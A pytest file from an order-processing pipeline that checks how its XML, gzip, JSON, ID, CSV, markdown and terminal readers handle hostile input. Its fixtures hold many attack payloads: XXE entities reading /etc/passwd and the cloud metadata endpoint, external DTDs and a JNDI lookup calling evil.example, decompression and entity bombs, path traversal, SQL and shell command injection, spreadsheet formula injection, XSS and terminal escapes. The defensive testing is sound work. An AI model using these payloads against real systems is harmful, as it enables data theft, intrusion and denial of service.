"""Inputs that somebody made to do harm, through the readers that meet them first: refused, or read as plain text.

Pure and quick: XML, compressed documents, JSON, ids that become paths, tables, and texts for a browser or a terminal.
Addresses that lead into this network are in channels/http/test_hosts.py, domain/privacy/test_residency.py and
channels/amazon/api/test_documents.py; forged messages in cli/test_receive.py and cli/test_guard.py.
"""

from __future__ import annotations

import gzip
import re
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from commerce_pipelines.assets.chart import bars
from commerce_pipelines.assets.common import escape_cell
from commerce_pipelines.channels.amazon import personal as amazon_personal
from commerce_pipelines.channels.amazon.api import documents
from commerce_pipelines.channels.amazon.api.documents import Fetched
from commerce_pipelines.channels.amazon.orders import translate as amazon
from commerce_pipelines.channels.amazon.returns.return_documents import XML, divide
from commerce_pipelines.channels.ebay import personal as ebay_personal
from commerce_pipelines.channels.ebay.api import xml
from commerce_pipelines.channels.ebay.orders import translate as ebay
from commerce_pipelines.channels.shopify.orders import payloads as shopify
from commerce_pipelines.core.errors import ProtocolError, RecordError, SettingsError
from commerce_pipelines.core.legible import BLOT, printable
from commerce_pipelines.domain.money import to_minor
from commerce_pipelines.settings.sku_file import read_sku_file

SECRET = b"root:x:0"
LAUGHS = b"".join(b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(9))
HOSTILE_XML = {
    "billion laughs": b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">%s]><x>&j;</x>' % LAUGHS,
    "quadratic": b'<!DOCTYPE x [<!ENTITY q "%s">]><x>%s</x>' % (b"q" * 50_000, b"&q;" * 50_000),
    "a file": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "a host": b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/latest">]><x>&e;</x>',
    "a parameter entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><x/>',
    "an external document type": b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    "a public document type": b'<!DOCTYPE x PUBLIC "-//W3C//DTD" "http://evil.example/x.dtd"><x/>',
    "a document type in UTF-16": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x><x/>'.encode("utf-16"),
    "an attribute list": b'<!DOCTYPE x [<!ATTLIST x a CDATA "filled in">]><x/>',
    "a notation": b'<!DOCTYPE x [<!NOTATION n SYSTEM "file:///bin/sh">]><x/>',
    "no end": b"<x>" * 40_000,
    "nothing": b"",
    "no XML": b"\x89PNG\r\n\x1a\n\0\0\0",
    "two roots": b"<x/><x/>",
    "a charset that nobody knows": b'<?xml version="1.0" encoding="rot13-evil"?><!DOCTYPE x><x/>',
}


@pytest.mark.parametrize("case", HOSTILE_XML)
def test_xml_that_does_more_than_hold_data_is_refused(case: str) -> None:
    for read in (xml.parse, lambda content: divide(XML, Fetched(content, "text/xml"))):
        with pytest.raises(ProtocolError) as caught:
            read(HOSTILE_XML[case])
        assert "evil" not in str(caught.value)
        assert SECRET.decode() not in str(caught.value)


@pytest.mark.parametrize("depth", [65, 1_000, 30_000])
def test_elements_nested_too_deep_are_cut_off(depth: int) -> None:
    root = xml.parse(b"<Order>" + b"<x>" * depth + b"</x>" * depth + b"<OrderID>1</OrderID></Order>")
    assert root.findtext("OrderID") == "1"
    assert xml.TOO_DEEP.encode() in xml.write(root)


PLAIN = b"order-id\n1\n"
BOMB = gzip.compress(b"\0" * (64 << 20))
HOSTILE_GZIP = {
    "a bomb": BOMB,
    "a bomb in two streams": BOMB + BOMB,
    "a bomb behind something small": gzip.compress(PLAIN) + BOMB,
    "cut off": gzip.compress(PLAIN * 1000)[:-20],
    "a wrong checksum": gzip.compress(PLAIN)[:-8] + b"\0" * 8,
    "only its head": b"\x1f\x8b\x08",
    "an unknown method": b"\x1f\x8b\x07" + gzip.compress(PLAIN)[3:],
    "garbage behind it": gzip.compress(PLAIN) + b"garbage",
    "damaged inside": gzip.compress(bytes(range(256)) * 99)[:40] + b"\xff" * 60,
}


@pytest.mark.parametrize("case", HOSTILE_GZIP)
def test_a_document_that_inflates_too_far_or_not_at_all_is_refused(case: str) -> None:
    for read in (lambda body: list(documents.lines(body)), documents.contents):
        with pytest.raises(ProtocolError):
            read(Fetched(HOSTILE_GZIP[case], ""))


@pytest.mark.parametrize(
    "body",
    [gzip.compress(gzip.compress(PLAIN)), zlib.compress(PLAIN), b"PK\x03\x04" + PLAIN],
    ids=["gzip in gzip", "zlib", "zip"],
)
def test_a_document_is_inflated_once_and_nothing_but_gzip_is(body: bytes) -> None:
    assert len(documents.contents(Fetched(body, ""))) <= len(body)


READERS: dict[str, Callable[[bytes], Any]] = {
    "amazon": amazon.head, "ebay": ebay.head, "shopify": shopify.head,
    "amazon's subjects": amazon.subjects, "ebay's subjects": ebay.subjects, "shopify's subjects": shopify.subjects,
}  # fmt: skip
HOSTILE_JSON = {
    "deep lists": b"[" * 200_000,
    "deep objects": b'{"a":' * 200_000 + b"1" + b"}" * 200_000,
    "deep inside a member": b'{"orderId":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "a list": b"[]",
    "a text": b'"' + b"a" * 1_000_000 + b'"',
    "a number of a million digits": b"1" * 1_000_000,
    "not a number": b'{"orderId": NaN}',
    "endless": b'{"orderId": Infinity}',
    "an exponent": b'{"orderId": 1e999999999}',
    "cut off": b'{"orderId": "1',
    "another charset": '{"orderId": "1"}'.encode("utf-16"),
    "nothing": b"",
    "a comment": b'/* */{"orderId": "1"}',
    "a prototype": b'{"__proto__": {"orderId": "1"}, "constructor": {}}',
}


@pytest.mark.parametrize("case", HOSTILE_JSON)
def test_json_that_is_no_order_is_one_error_that_quotes_nothing(case: str) -> None:
    for name, read in READERS.items():
        with pytest.raises(RecordError) as caught:
            read(HOSTILE_JSON[case])
        assert caught.value.code == "bad_payload", name
        assert len(str(caught.value)) < 500
    for cut in (amazon_personal.cut_order, ebay_personal.cut_order):
        assert len(cut(HOSTILE_JSON[case])) <= len(HOSTILE_JSON[case])


@pytest.mark.parametrize(
    "figure",
    ["1e999999999", "-1e999999999", "9" * 4_000, "NaN", "Infinity", "sNaN", "", "0x10", "1;DROP TABLE"],
)
def test_a_figure_that_is_no_amount_is_refused_at_once(figure: str) -> None:
    with pytest.raises(RecordError) as caught:
        to_minor(figure, "EUR")
    assert caught.value.code == "bad_amount"


HOSTILE_IDS = [
    "../../etc/passwd", "..", ".", "a/b", "a\\b", "1\0", "1\n", "1\r\nHost: evil.example", "http://evil.example/",
    "1?x=1", "1#x", "%2e%2e%2f", "1'; DROP TABLE commerce.orders;--", "${jndi:ldap://evil.example/a}", "{{7*7}}",
    "`id`", "$(id)", "1 OR 1=1", "<script>", "\u2025/\u2025", "١٢٣", "A" * 600, "", " ",
]  # fmt: skip


@pytest.mark.parametrize("record_id", HOSTILE_IDS)
def test_an_id_that_could_lead_elsewhere_is_no_id(record_id: str) -> None:
    import msgspec

    times = {"createdTime": "2026-11-20T12:00:00Z", "lastUpdatedTime": "2026-11-20T12:00:00Z"}
    dates = {"creationDate": "2026-11-20T12:00:00Z", "lastModifiedDate": "2026-11-20T12:00:00Z"}
    stamps = {"createdAt": "2026-11-20T12:00:00Z", "updatedAt": "2026-11-20T12:00:00Z"}
    for read, order in (
        (amazon.head, {"orderId": record_id, **times}),
        (ebay.head, {"orderId": record_id, **dates}),
        (shopify.head, {"id": f"gid://shopify/Order/{record_id}", "name": "#1", **stamps}),
    ):
        raw = msgspec.json.encode(order)
        if (read is shopify.head and record_id.startswith("1?")) or (record_id == "1?x=1" and read is shopify.head):
            assert read(raw).record_id == "1"  # Shopify writes such ids of its own; what follows is dropped
            continue
        with pytest.raises(RecordError) as caught:
            read(raw)
        assert record_id not in str(caught.value) or len(record_id) < 3


HOSTILE_TABLES = {
    "a formula": b'sku,product\n=HYPERLINK("http://evil.example"),TEA\n',
    "a command": b"sku,product\n=cmd|'/c calc'!A0,TEA\n",
    "a plus": b"sku,product\n+1+1,TEA\n",
    "an at sign": b"sku,product\n@SUM(A1),TEA\n",
    "a tab": b"sku,product\n\t=1,TEA\n",
    "an open quote": b'sku,product\n"A,TEA\nB,TEA\n',
    "a NUL": b"sku,product\nA\0B,TEA\n",
    "an odd UTF-16": b"\xff\xfes\0k",
    "a huge cell": b"sku,product\n" + b"A" * 300_000 + b",TEA\n",
    "a million columns": b"sku,product" + b",x" * 100_000 + b"\nA,TEA\n",
    "an archive": b"PK\x03\x04\x14\0\x06\0",
}


@pytest.mark.parametrize("case", HOSTILE_TABLES)
def test_a_table_is_text_or_refused_with_its_setting(case: str, tmp_path: Path) -> None:
    """Cells are SKUs, looked for in Odoo as they stand. No command writes a table that a spreadsheet would open."""
    file = tmp_path / "skus.csv"
    file.write_bytes(HOSTILE_TABLES[case])
    problem, skus = "", {}
    try:
        skus = read_sku_file(file, "channels[a].sku_file", False)
    except SettingsError as error:
        problem = str(error)
    assert problem.startswith("channels[a].sku_file") or len(skus) == 1


INJECTED = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<a href='javascript:x'>",
    "[click](javascript:alert(1))", "![x](http://evil.example/pixel.png)", "[x]: http://evil.example",
    "http://evil.example/auto", "a | b", "x\n\n# head", "`code` and ```", "<!-- -->", "&lt;script&gt;",
    "**bold** _it_ ~~gone~~", "\\](x)", "<iframe src=//evil.example>", "\u202e<b>", "- item\n- item",
]  # fmt: skip


@pytest.mark.parametrize("text", INJECTED)
def test_a_text_is_no_markup_in_a_page_of_dagsters(text: str) -> None:
    cell = escape_cell(text)
    assert "\n" not in cell
    assert re.search(r"(?<!\\)(?:\\\\)*[<>\[\]()|`*_#&:~!]", cell) is None
    picture = bars({text: 1, "b": 2}, text)
    shown, _, image = picture.partition("](data:image/svg+xml;base64,")
    assert "<" not in shown
    assert re.fullmatch(r"[A-Za-z0-9+/=]+\)", image)


ESCAPES = [
    "\x1b[2J", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b]0;title\x07", "\x1b[1A\x1b[2Kall is well",
    "\x9b31m", "a\rb", "a\x08\x08b", "\x07", "\x00", "\u202eevil", "\u2066x\u2069", "\ufeffx", "\u2028x",
    "\x1bP+q\x1b\\",
]  # fmt: skip


@pytest.mark.parametrize("text", ESCAPES)
def test_a_text_moves_no_cursor_of_a_terminal(text: str) -> None:
    shown = printable(text)
    assert BLOT in shown
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ufeff]", shown)
